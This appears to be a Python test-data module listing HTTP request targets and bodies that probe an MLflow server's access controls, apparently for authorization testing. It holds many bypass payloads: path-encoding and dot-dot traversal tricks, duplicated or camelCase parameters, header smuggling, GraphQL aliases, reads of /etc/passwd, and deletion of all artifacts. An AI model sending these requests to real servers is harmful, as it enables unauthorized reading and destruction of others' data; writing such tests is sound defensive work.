"""The spellings themselves: of paths and queries, and of bodies."""

import json

# name: request target of a GET
TARGETS = {
    "plain": "/api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "slash encoded": "/api/2.0/mlflow%2Fexperiments%2Fget?experiment_id={victim}",
    "slash encoded twice": "/api/2.0/mlflow%252Fexperiments%252Fget?experiment_id={victim}",
    "letter encoded": "/api/2.0/mlflow/%65xperiments/get?experiment_id={victim}",
    "root route with a letter encoded": "/%67et-artifact?run_id={run}&path=a.txt",
    "doubly encoded letter": "/api/2.0/mlflow/%2565xperiments/get?experiment_id={victim}",
    "two leading slashes": "//api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "two inner slashes": "/api/2.0//mlflow/experiments/get?experiment_id={victim}",
    "dot segment": "/api/2.0/mlflow/./experiments/get?experiment_id={victim}",
    "dot-dot segment": "/api/2.0/x/../mlflow/experiments/get?experiment_id={victim}",
    "encoded dot-dot segment": "/api/2.0/x/%2e%2e/mlflow/experiments/get?experiment_id={victim}",
    "dot-dot behind an encoded slash": "/health/..%2fapi/2.0/mlflow/experiments/get?experiment_id={victim}",
    "below a public path": "/health/../api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "below static files": "/static-files/../api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "below static files, encoded": "/static-files/%2e%2e/api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "backslash": "/api\\2.0\\mlflow\\experiments\\get?experiment_id={victim}",
    "backslash encoded": "/api/2.0/mlflow%5Cexperiments/get?experiment_id={victim}",
    "trailing slash": "/api/2.0/mlflow/experiments/get/?experiment_id={victim}",
    "path parameters": "/api/2.0/mlflow/experiments/get;x=1?experiment_id={victim}",
    "upper case": "/API/2.0/mlflow/experiments/get?experiment_id={victim}",
    "NUL": "/api/2.0/mlflow/experiments/get%00?experiment_id={victim}",
    "tab": "/api/2.0/mlflow/experiments/get%09?experiment_id={victim}",
    "not UTF-8": "/api/2.0/mlflow/experiments/get%ff?experiment_id={victim}",
    "fragment": "/health#/../api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "encoded fragment": "/api/2.0/mlflow/experiments/get%23?experiment_id={victim}",
    "question mark encoded": "/api/2.0/mlflow/experiments/get%3Fexperiment_id={victim}",
    "misspelt twin": "/api/2.0mlflow/experiments/search-datasets?experiment_id={victim}",
    "id with a space": "/api/2.0/mlflow/experiments/get?experiment_id=%20{victim}",
    "id with a plus": "/api/2.0/mlflow/experiments/get?experiment_id=%2B{victim}",
    "id with a zero": "/api/2.0/mlflow/experiments/get?experiment_id=0{victim}",
    "id with an underscore": "/api/2.0/mlflow/experiments/get?experiment_id=0_{victim}",
    "id in Arabic digits": "/api/2.0/mlflow/experiments/get?experiment_id={arabic}",
    "id with a newline": "/api/2.0/mlflow/experiments/get?experiment_id={victim}%0A",
    "two ids, the last of another": "/api/2.0/mlflow/experiments/get?experiment_id={own}&experiment_id={victim}",
    "two ids, the first of another": "/api/2.0/mlflow/experiments/get?experiment_id={victim}&experiment_id={own}",
    "empty id": "/api/2.0/mlflow/experiments/get?experiment_id=",
    "encoded key": "/api/2.0/mlflow/experiments/get?experiment%5Fid={victim}",
    "semicolon in the query": "/api/2.0/mlflow/experiments/get?x=1;experiment_id={victim}",
    "key with brackets": "/api/2.0/mlflow/experiments/get?experiment_id[]={victim}",
    "camelCase key": "/api/2.0/mlflow/experiments/get?experimentId={victim}",
    "run by the old name": "/api/2.0/mlflow/runs/get?run_uuid={run}",
    "run by both names": "/api/2.0/mlflow/runs/get?run_uuid={run}&run_id={own_run}",
    "run by both names, the other way round": "/api/2.0/mlflow/runs/get?run_id={run}&run_uuid={own_run}",
    "run with a space": "/api/2.0/mlflow/runs/get?run_id={run}%20",
    "model in upper case": "/api/2.0/mlflow/registered-models/get?name={MODEL}",
    "model with a space": "/api/2.0/mlflow/registered-models/get?name={model}%20",
    "trace of the victim": "/api/3.0/mlflow/traces/{trace}",
    "trace without its prefix": "/api/3.0/mlflow/traces/get?trace_id={TRACE}",
    "logged model of the victim": "/api/2.0/mlflow/logged-models/{logged_model}",
    "run in upper case": "/api/2.0/mlflow/runs/get?run_id={RUN}",
    "artifact": "/api/2.0/mlflow-artifacts/artifacts/{victim}/{run}/artifacts/a.txt",
    "artifact behind a dot": "/api/2.0/mlflow-artifacts/artifacts/./{victim}/{run}/artifacts/a.txt",
    "artifact behind an encoded dot": "/api/2.0/mlflow-artifacts/artifacts/%2e/{victim}/{run}/artifacts/a.txt",
    "artifact behind a dot encoded twice": "/api/2.0/mlflow-artifacts/artifacts/%252e/{victim}/{run}/artifacts/a.txt",
    "artifact encoded three times": "/api/2.0/mlflow-artifacts/artifacts/%25252e%25252f{victim}/{run}/artifacts/a.txt",
    "artifact with an encoded digit": "/api/2.0/mlflow-artifacts/artifacts/%3{victim}/{run}/artifacts/a.txt",
    "artifact with a digit encoded twice": "/api/2.0/mlflow-artifacts/artifacts/%253{victim}/{run}/artifacts/a.txt",
    "artifact with NUL": "/api/2.0/mlflow-artifacts/artifacts/{own}/{own_run}/artifacts/a%00.txt",
    "artifact with an empty query": "/api/2.0/mlflow-artifacts/artifacts/{victim}/{run}/artifacts/a.txt%3F",
    "artifact with an empty fragment": "/api/2.0/mlflow-artifacts/artifacts/{victim}/{run}/artifacts/a.txt%23",
    "artifact behind two slashes": "/api/2.0/mlflow-artifacts/artifacts//{victim}/{run}/artifacts/a.txt",
    "artifact behind another": "/api/2.0/mlflow-artifacts/artifacts/{own}/../{victim}/{run}/artifacts/a.txt",
    "artifact behind another, encoded": "/api/2.0/mlflow-artifacts/artifacts/{own}/%2e%2e/{victim}/a.txt",
    "artifact behind another, encoded twice": "/api/2.0/mlflow-artifacts/artifacts/{own}/%252e%252e/{victim}/a.txt",
    "artifact by file scheme": "/api/2.0/mlflow-artifacts/artifacts/file:{victim}/a.txt",
    "artifact by absolute path": "/api/2.0/mlflow-artifacts/artifacts/%2Fetc%2Fpasswd",
    "artifact behind a backslash": "/api/2.0/mlflow-artifacts/artifacts/{own}/..%5c{victim}/a.txt",
    "artifact behind path parameters": "/api/2.0/mlflow-artifacts/artifacts/{own}/..;/{victim}/a.txt",
    "artifact behind a fragment": "/api/2.0/mlflow-artifacts/artifacts/{own}/%23/../../{victim}/a.txt",
    "artifact of a workspace": "/api/2.0/mlflow-artifacts/artifacts/workspaces/default/{victim}/{run}/artifacts/a.txt",
    "artifact of a shouted workspace": "/api/2.0/mlflow-artifacts/artifacts/WORKSPACES/default/{victim}/a.txt",
    "artifact under the other prefix": "/ajax-api/2.0/mlflow-artifacts/artifacts/{victim}/{run}/artifacts/a.txt",
    "artifact list": "/api/2.0/mlflow-artifacts/artifacts?path={victim}/{run}/artifacts",
    "artifact list by two paths": "/api/2.0/mlflow-artifacts/artifacts?path={own}&path={victim}/{run}",
    "artifact list behind a dot": "/api/2.0/mlflow-artifacts/artifacts?path=./{victim}",
    "artifact list of everything": "/api/2.0/mlflow-artifacts/artifacts",
    "get-artifact by traversal": "/get-artifact?run_id={own_run}&path=../../../{victim}/{run}/artifacts/a.txt",
    "get-artifact by encoded traversal": "/get-artifact?run_id={own_run}&path=%2e%2e/{run}/artifacts/a.txt",
    "get-artifact by traversal encoded twice": "/get-artifact?run_id={own_run}&path=%252e%252e/{run}/artifacts/a.txt",
    "get-artifact behind a backslash": "/get-artifact?run_id={own_run}&path=..%5c{run}%5cartifacts%5ca.txt",
    "get-artifact behind path parameters": "/get-artifact?run_id={own_run}&path=..;/{run}/artifacts/a.txt",
    "get-artifact behind a fragment": "/get-artifact?run_id={own_run}&path=%23/../../{run}/artifacts/a.txt",
    "get-artifact by file scheme": "/get-artifact?run_id={own_run}&path=file:///etc/passwd",
    "get-artifact by absolute path": "/get-artifact?run_id={own_run}&path=/etc/passwd",
    "get-artifact with NUL": "/get-artifact?run_id={own_run}&path=a%00.txt",
    "asterisk": "*",
    "absolute form": "http://127.0.0.1/api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "get-artifact of the victim": "/get-artifact?run_id={run}&path=a.txt",
    "get-artifact by the old name": "/get-artifact?run_uuid={run}&path=a.txt",
    "scorer of the victim": "/api/3.0/mlflow/scorers/list?experiment_id={victim}",
    "metrics of the victim": "/ajax-api/2.0/mlflow/metrics/get-history-bulk?run_id={run}&metric_key=m",
    "metrics of two runs": "/ajax-api/2.0/mlflow/metrics/get-history-bulk?run_id={own_run}&run_id={run}&metric_key=m",
    "unknown route": "/api/2.0/mlflow/nothing",
    "behind what looks like a public prefix": "/static-x/api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "behind a public route": "/health/api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "behind what begins like a public route": "/health-x/api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "behind a public file": "/favicon.ico/api/2.0/mlflow/experiments/get?experiment_id={victim}",
    "workspace with a blank": "/api/3.0/mlflow/roles/list?workspace=default%20",
    "unknown version": "/api/9.0/mlflow/experiments/get?experiment_id={victim}",
}

JSON = "Content-Type: application/json"
PROTOBUF = "Content-Type: application/x-protobuf"


def body(**fields):
    return json.dumps(fields)


# name: (method, target, body, further headers)
BODIES = {
    "GET whose JSON body names the victim": (
        "GET", "/api/2.0/mlflow/experiments/get", body(experiment_id="{victim}"), JSON),
    "GET whose body contradicts its query": (
        "GET", "/api/2.0/mlflow/experiments/get?experiment_id={own}", body(experiment_id="{victim}"), JSON),
    "artifact list by body": (
        "GET", "/api/2.0/mlflow-artifacts/artifacts", body(path="{victim}"), JSON),
    "POST whose query names its own": (
        "POST", "/api/2.0/mlflow/experiments/update?experiment_id={own}", body(experiment_id="{victim}", new_name="x"), JSON),
    "both spellings": (
        "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id="{own}", experimentId="{victim}", new_name="x"), JSON),
    "camelCase": (
        "POST", "/api/2.0/mlflow/experiments/update", body(experimentId="{victim}", newName="x"), JSON),
    "duplicate key": (
        "POST", "/api/2.0/mlflow/experiments/update", '{"experiment_id":"{own}","experiment_id":"{victim}","new_name":"x"}', JSON),
    "escaped key": (
        "POST", "/api/2.0/mlflow/experiments/update", '{"experiment\\u005fid":"{victim}","new_name":"x"}', JSON),
    "escaped key beside the plain one": (
        "POST", "/api/2.0/mlflow/experiments/update", '{"experiment_id":"{own}","experiment\\u005fid":"{victim}","new_name":"x"}', JSON),
    "doubly encoded": (
        "POST", "/api/2.0/mlflow/experiments/update", '"{\\"experiment_id\\":\\"{victim}\\",\\"new_name\\":\\"x\\"}"', JSON),
    "array at the top": (
        "POST", "/api/2.0/mlflow/experiments/update", '[{"experiment_id":"{victim}","new_name":"x"}]', JSON),
    "trailing garbage": (
        "POST", "/api/2.0/mlflow/experiments/update", '{"experiment_id":"{victim}","new_name":"x"} x', JSON),
    "NaN": (
        "POST", "/api/2.0/mlflow/experiments/update", '{"experiment_id":"{victim}","new_name":"x","a":NaN}', JSON),
    "number as id": (
        "POST", "/api/2.0/mlflow/experiments/update", '{"experiment_id":{victim},"new_name":"x"}', JSON),
    "id with a space": (
        "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id=" {victim}", new_name="x"), JSON),
    "text/plain": (
        "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), "Content-Type: text/plain"),
    "JSON of another type": (
        "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), "Content-Type: application/vnd.x+json"),
    "form": (
        "POST", "/api/2.0/mlflow/experiments/update", "experiment_id={victim}&new_name=x", "Content-Type: application/x-www-form-urlencoded"),
    "no content type": (
        "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), "X-None: 1"),
    "charset UTF-16": (
        "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), "Content-Type: application/json; charset=utf-16"),
    "search in odd spellings": (
        "POST", "/api/2.0/mlflow/runs/search", body(experiment_ids=["0{victim}", " {victim}"]), JSON),
    "both spellings, nested": (
        "POST", "/api/3.0/mlflow/traces/search", '{"locations":[{"type":"MLFLOW_EXPERIMENT","mlflow_experiment":{"experiment_id":"{own}"},"mlflowExperiment":{"experimentId":"{victim}"}}]}', JSON),
    "second location, camelCase": (
        "POST", "/api/3.0/mlflow/traces/search", '{"locations":[{"mlflow_experiment":{"experiment_id":"{own}"}},{"mlflowExperiment":{"experimentId":"{victim}"}}]}', JSON),
    "logged model by path and body": (
        "PATCH", "/api/2.0/mlflow/logged-models/m-" + "1" * 32, body(model_id="m-" + "2" * 32, status=2), JSON),
    "datasets by query and body": (
        "GET", "/api/3.0/mlflow/datasets/search?experiment_ids={victim}", body(experiment_ids=["{own}"]), JSON),
    "role by two ids": (
        "PATCH", "/api/3.0/mlflow/roles/permissions/update", body(role_id=1, role_permission_id=2, permission="MANAGE"), JSON),
    "model called star": (
        "POST", "/api/2.0/mlflow/registered-models/create", body(name="*"), JSON),
    "model of another in a metric": (
        "POST", "/api/2.0/mlflow/runs/log-metric", body(run_id="{own_run}", key="k", value=1, timestamp=1, model_id="{logged_model}"), JSON),
    "model of another in a batch": (
        "POST", "/api/2.0/mlflow/runs/log-batch", body(run_id="{own_run}", metrics=[{"key": "k", "value": 1, "timestamp": 1, "step": 0}, {"key": "l", "value": 1, "timestamp": 1, "step": 0, "model_id": "{logged_model}"}]), JSON),
    "model of another as an output": (
        "POST", "/api/2.0/mlflow/runs/outputs", body(run_id="{own_run}", models=[{"model_id": "{logged_model}", "step": 0}]), JSON),
    "run of another as a source": (
        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="runs:/{run}/model", run_id="{run}"), JSON),
    "run of another as a source, one's own as the run": (
        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="runs:/{run}/model", run_id="{own_run}"), JSON),
    "run of another behind one's own as the host": (
        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="runs://{own_run}/{run}/model", run_id="{own_run}"), JSON),
    "logged model of another as a source": (
        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="models:/{logged_model}"), JSON),
    "logged model of another beside one's own source": (
        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="runs:/{own_run}/model", run_id="{own_run}", model_id="{logged_model}"), JSON),
    "artifacts of another as a source": (
        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="mlflow-artifacts:/{victim}/{run}/artifacts"), JSON),
    "logged model made of another's run": (
        "POST", "/api/2.0/mlflow/logged-models", body(experiment_id="{own}", name="x", source_run_id="{run}"), JSON),
    "upload to another's logged model": (
        "POST", "/api/2.0/mlflow/artifacts/presigned-upload-url", body(model_id="{logged_model}", path="x"), JSON),
    "issue of another's run": (
        "POST", "/api/3.0/mlflow/issues", body(experiment_id="{own}", name="x", description="x", source_run_id="{run}"), JSON),
    "trace taken over": (
        "POST", "/api/3.0/mlflow/traces", body(trace={"trace_info": {"trace_id": "{trace}", "state": "OK", "request_time": "2026-01-02T03:04:05Z", "trace_location": {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": "{own}"}}}}), JSON),
    "span in another's trace": (
        "POST", "/v1/traces", body(resourceSpans=[{"scopeSpans": [{"spans": [{"traceId": "{TRACE}", "spanId": "0123456789abcdef", "name": "x"}]}]}]), JSON + "\r\nX-Mlflow-Experiment-Id: {own}"),
    "assessment of another's trace": (
        "POST", "/api/3.0/mlflow/traces/{trace}/assessments", body(assessment={"assessment_name": "x", "feedback": {"value": 1}}), JSON),
    "trace of another in one's own run": (
        "POST", "/api/2.0/mlflow/traces/link-to-run", body(run_id="{own_run}", trace_ids=["{trace}"]), JSON),
    "two experiments of one export": (
        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {own}\r\nX-Mlflow-Experiment-Id: {victim}"),
    "two experiments of one export, the other way round": (
        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {victim}\r\nX-Mlflow-Experiment-Id: {own}"),
    "two experiments of one export in one header": (
        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {own}, {victim}"),
    "two experiments of one export, one by underscores": (
        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {own}\r\nX_Mlflow_Experiment_Id: {victim}"),
    "deletion of all artifacts": ("DELETE", "/api/2.0/mlflow-artifacts/artifacts/", "", "X-None: 1"),
    "deletion of an experiment's artifacts": (
        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/{victim}", "", "X-None: 1"),
    "deletion of what is above": (
        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/{own}/%252e%252e", "", "X-None: 1"),
    "deletion of a run's artifacts by the run alone": (
        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/{run}", "", "X-None: 1"),
    "deletion of a workspace's artifacts": (
        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/workspaces/default", "", "X-None: 1"),
    "preflight with a body": (
        "OPTIONS", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), JSON + "\r\nOrigin: https://attacker.example\r\nAccess-Control-Request-Method: POST"),
    "POST by another name": (
        "OPTIONS", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), JSON + "\r\nX-HTTP-Method-Override: POST"),
    "HEAD of an artifact": ("HEAD", "/get-artifact?run_id={run}&path=a.txt", "", "X-None: 1"),
    "run of another by a second name": (
        "POST", "/api/2.0/mlflow/runs/set-tag", body(run_uuid="{own_run}", runId="{run}", key="k", value="v"), JSON),
    "run of another by the first name": (
        "POST", "/api/2.0/mlflow/runs/set-tag", body(run_id="{own_run}", run_uuid="{run}", key="k", value="v"), JSON),
    "run of another, camelCase": (
        "POST", "/api/2.0/mlflow/runs/set-tag", body(run_id="{own_run}", runUuid="{run}", key="k", value="v"), JSON),
    "deletion of another's run": (
        "POST", "/api/2.0/mlflow/runs/delete", body(run_uuid="{own_run}", runId="{run}"), JSON),
    "model deletion by query and body": (
        "DELETE", "/api/2.0/mlflow/registered-models/delete?name={own}", body(name="{model}"), "X-None: 1"),
    "upload by two names": (
        "POST", "/ajax-api/2.0/mlflow/upload-artifact?run_id={own_run}&run_uuid={run}&path=x", "data", "X-None: 1"),
    "GraphQL": (
        "POST", "/graphql", json.dumps({"query": '{ mlflowGetExperiment(input: {experimentId: "{victim}"}) { experiment { name } } }'}), JSON),
    "GraphQL alias": (
        "POST", "/graphql", json.dumps({"query": '{ a: mlflowGetRun(input: {runId: "{own_run}"}) { run { info { runId } } } b: mlflowGetRun(input: {runId: "{run}"}) { run { info { runId } } } }'}), JSON),
    "GraphQL fragment": (
        "POST", "/graphql", json.dumps({"query": 'query { ...F } fragment F on Query { mlflowGetRun(input: {runId: "{run}"}) { run { info { runId } } } }'}), JSON),
    "GraphQL variable": (
        "POST", "/graphql", json.dumps({"query": "query($i: MlflowGetRunInput) { mlflowGetRun(input: $i) { run { info { runId } } } }", "variables": {"i": {"runId": "{run}"}}}), JSON),
    "GraphQL without an id": (
        "POST", "/graphql", json.dumps({"query": "{ mlflowGetExperiment(input: {}) { experiment { name } } }"}), JSON),
    "GraphQL with an empty id": (
        "POST", "/graphql", json.dumps({"query": '{ mlflowGetExperiment(input: {experimentId: ""}) { experiment { name } } }'}), JSON),
    "GraphQL batch": (
        "POST", "/graphql", json.dumps([{"query": '{ mlflowGetRun(input: {runId: "{run}"}) { run { info { runId } } } }'}]), JSON),
    "GraphQL by GET": (
        "GET", "/graphql?query=x", json.dumps({"query": '{ mlflowGetRun(input: {runId: "{run}"}) { run { info { runId } } } }'}), JSON),
    "GraphQL with 300 aliases": (
        "POST", "/graphql", json.dumps({"query": "{ " + " ".join(f'a{n}: mlflowSearchRuns(input: {{experimentIds: ["{{own}}"]}}) {{ runs {{ info {{ runId }} }} }}' for n in range(300)) + " }"}), JSON),
}
